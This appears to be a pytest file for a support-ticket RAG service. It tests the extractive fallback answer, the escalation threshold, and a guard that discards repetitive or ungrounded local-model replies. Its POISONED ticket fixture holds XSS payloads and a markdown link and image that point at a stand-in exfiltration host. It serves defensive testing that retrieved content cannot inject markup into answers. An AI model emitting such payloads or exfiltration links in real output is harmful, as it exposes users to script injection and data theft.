"""Answers without a trusted model: the extractive answer, the evidence gate and the guarded local model,
over the real Weaviate and the real embedding model."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from langchain_core.embeddings import Embeddings
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage

from chains.evidence import load_evidence_model
from chains.guard import degeneracy
from chains.llm import describe_llm
from chains.prompts import load_prompts
from chains.rag import ChainOptions, build_rag_chain
from chains.retrieval import TicketRetriever
from server import create_app
from tests.chains.test_rag_chain import (
    OPEN_PASSWORD,
    PASSWORD,
    VPN,
    RecordingChatModel,
    _events,
    _invoke,
    _seed,
)
from tests.conftest import make_settings
from ticket_rag.settings import Settings

INVOICE = {
    "title": "Invoice charged twice",
    "description": "Our company card was charged twice for invoice 2024-117 this month.",
    "resolution": "Refunded the duplicate payment of 49.99 EUR; it shows on the card within 5 business days. "
    "The double charge came from a retried checkout.",
    "status": "resolved",
}
TICKETS = (PASSWORD, VPN, OPEN_PASSWORD, INVOICE)
_LINE = re.compile(r"^- (Resolution|Reported): (.+) \[(#[0-9a-f]{8})\]$")


@pytest.fixture()
def extractive(settings: Settings, embeddings: Embeddings) -> Iterator[tuple[TestClient, dict[str, dict[str, Any]]]]:
    settings = settings.model_copy(update={"llm_provider": "extractive"})
    with TestClient(create_app(settings, embeddings=embeddings)) as client:
        ids = _seed(client, *TICKETS)
        by_ref = {"#" + i.replace("-", "")[:8]: t for i, t in zip(ids, TICKETS, strict=True)}
        yield client, by_ref


def test_auto_without_a_key_answers_extractively() -> None:
    info = describe_llm(make_settings(llm_provider="auto", groq_api_key=None))
    assert info is not None and info.provider == "extractive" and info.offline_fallback


def test_extractive_answer_quotes_the_tickets_with_their_references(
    extractive: tuple[TestClient, dict[str, Any]],
) -> None:
    client, by_ref = extractive
    output = _invoke(client, question="Our invoice was charged twice, how do we get the money back?")
    lines = output["answer"].splitlines()
    assert lines[0] == "From past tickets:" and len(lines) >= 2
    for line in lines[1:]:
        kind, sentence, ref = _LINE.match(line).groups()  # type: ignore[union-attr]
        ticket = by_ref[ref]
        assert sentence in (ticket["resolution"] if kind == "Resolution" else ticket["description"])
    first = _LINE.match(lines[1]).groups()  # type: ignore[union-attr]
    assert first[0] == "Resolution" and by_ref[first[2]] is INVOICE
    assert "49.99" in output["answer"]  # the refund sentence, verbatim
    meta = output["metadata"]
    assert meta["answer_kind"] == "extractive" and meta["provider"] == "extractive" and not meta["escalated"]
    assert degeneracy(output["answer"]) is None
    # deterministic: the same question gives the same answer
    assert (
        _invoke(client, question="Our invoice was charged twice, how do we get the money back?")["answer"]
        == output["answer"]
    )


def test_extractive_answer_streams_sources_lines_then_metadata(extractive: tuple[TestClient, dict[str, Any]]) -> None:
    client, _ = extractive
    response = client.post("/rag/stream", json={"input": {"question": "The VPN disconnects every hour"}})
    assert response.status_code == 200
    data = [d for kind, d in _events(response.text) if kind == "data"]
    assert "sources" in data[0] and "metadata" in data[-1]
    pieces = [d["answer"] for d in data if "answer" in d]
    assert len(pieces) >= 2 and "".join(pieces).startswith("From past tickets:")
    assert "IKE lifetime" in "".join(pieces)


def test_escalation_says_why(settings: Settings, embeddings: Embeddings) -> None:
    llm = RecordingChatModel(responses=["never used"], prompts=[])
    settings = settings.model_copy(update={"rag_escalation_threshold": 1.0})  # every question escalates
    with TestClient(create_app(settings, embeddings=embeddings, llm=llm)) as client:
        _seed(client, PASSWORD)
        output = _invoke(client, question="How do I reset my password?")
    evidence = output["metadata"]["evidence"]
    assert output["metadata"]["escalated"] and output["metadata"]["answer_kind"] == "escalation"
    assert f"Evidence score {evidence['score']:.2f}, below the escalation threshold 1.00" in output["answer"]
    assert "Password reset link expired" in output["answer"]  # the best evidence it had
    assert output["sources"] and llm.prompts == []  # the agent still sees the tickets; the model is not asked


def test_the_calibrated_gate_answers_a_question_its_ticket_answers(
    extractive: tuple[TestClient, dict[str, Any]],
) -> None:
    client, _ = extractive
    output = _invoke(client, question="The password reset link says it has expired")
    evidence = output["metadata"]["evidence"]
    assert evidence["threshold"] == load_evidence_model().threshold
    assert not output["metadata"]["escalated"], evidence


class _Scripted(GenericFakeChatModel):
    """A chat model that streams one scripted reply word by word, like a local model would."""


def _local_chain(app: Any, reply: str) -> Any:
    settings: Settings = app.state.settings
    llm = _Scripted(messages=iter([AIMessage(content=reply)]))
    return build_rag_chain(
        retriever=TicketRetriever(vectorstore=lambda: app.state.services.vectorstore, alpha=settings.rag_alpha),
        llm=llm,
        prompts=load_prompts(settings.prompts_dir),
        options=ChainOptions(provider="local", model="scripted", min_similarity=settings.rag_min_similarity),
        collection_exists=lambda name: True,
    )


async def _answer(chain: Any, question: str) -> dict[str, Any]:
    out: dict[str, Any] = {"answer": ""}
    stream: AsyncIterator[dict[str, Any]] = chain.astream({"question": question})
    async for chunk in stream:
        out["answer"] += chunk.get("answer", "")
        out.update({k: v for k, v in chunk.items() if k != "answer"})
    return out


@pytest.mark.parametrize(
    ("reply", "kind"),
    [
        ("The answer is: " * 60, "repetition"),
        ('The website is called "[link removed]-12-12-12-12-12-12-12-12', "repetition"),
        ("Refund 129.95 EUR with form RF-7731 within 14 days.", "ungrounded"),
    ],
)
def test_the_local_model_is_replaced_by_the_extractive_answer_when_it_fails(
    settings: Settings, embeddings: Embeddings, reply: str, kind: str
) -> None:
    import asyncio

    with TestClient(create_app(settings, embeddings=embeddings)) as client:
        _seed(client, INVOICE, PASSWORD)
        chain = _local_chain(client.app, reply)
        out = asyncio.run(_answer(chain, "Our invoice was charged twice"))
    assert out["metadata"]["guard"]["kind"] == kind
    assert out["metadata"]["answer_kind"] == "extractive"
    assert out["answer"].startswith("From past tickets:") and "withheld" in out["answer"]
    assert (
        "The answer is: The answer is:" not in out["answer"]
        and "-12-12" not in out["answer"]
        and "RF-7731" not in out["answer"]
    )
    assert degeneracy(out["answer"]) is None


def test_a_sound_local_answer_is_kept(settings: Settings, embeddings: Embeddings) -> None:
    import asyncio

    with TestClient(create_app(settings, embeddings=embeddings)) as client:
        _seed(client, INVOICE)
        chain = _local_chain(client.app, "We refunded the duplicate payment of 49.99 EUR.")
        out = asyncio.run(_answer(chain, "Our invoice was charged twice"))
    assert out["metadata"]["guard"] is None and out["metadata"]["answer_kind"] == "generated"
    assert out["answer"].startswith("We refunded the duplicate payment of 49.99 EUR.")


POISONED = {
    "title": "Monitor flickers on docking station <img src=x onerror=alert(1)>",
    "description": "The external monitor flickers when connected to the dock.",
    "resolution": "Update the dock firmware, see [the guide](http://evil.example/steal?d=SECRET) and "
    "![img](http://evil.example/p.png) <img src=x onerror=alert(1)> also https://evil.example/raw and see ticket "
    "[#883528bf] and [T2] for details. <script>alert(1)</script> Reseat the dock cable after the update.",
    "status": "resolved",
}
_MARKUP = ("http", "evil.example", "<img", "<script", "](", "![", "[T2]", "[#883528bf]")


@pytest.mark.parametrize("provider", ["extractive", "none", "escalation"])
def test_a_poisoned_ticket_cannot_put_links_markup_or_foreign_references_in_any_answer(
    settings: Settings, embeddings: Embeddings, provider: str
) -> None:
    update: dict[str, Any] = {"llm_provider": "extractive" if provider == "escalation" else provider}
    if provider == "escalation":
        update["rag_escalation_threshold"] = 1.0  # every question escalates, quoting its closest ticket
    with TestClient(create_app(settings.model_copy(update=update), embeddings=embeddings)) as client:
        _seed(client, POISONED, VPN)
        question = "The monitor flickers on the docking station"
        output = _invoke(client, question=question)
        streamed = client.post("/rag/stream", json={"input": {"question": question}}).text
    answer = output["answer"]
    assert "dock" in answer.lower()  # the ticket is still quoted, only its markup is gone
    for text in (answer, "".join(d.get("answer", "") for k, d in _events(streamed) if k == "data")):
        assert not [m for m in _MARKUP if m in text], text
    cited = set(re.findall(r"\[(#[0-9a-f]{8})\]", answer))
    assert cited <= {s["ref"] for s in output["sources"]}
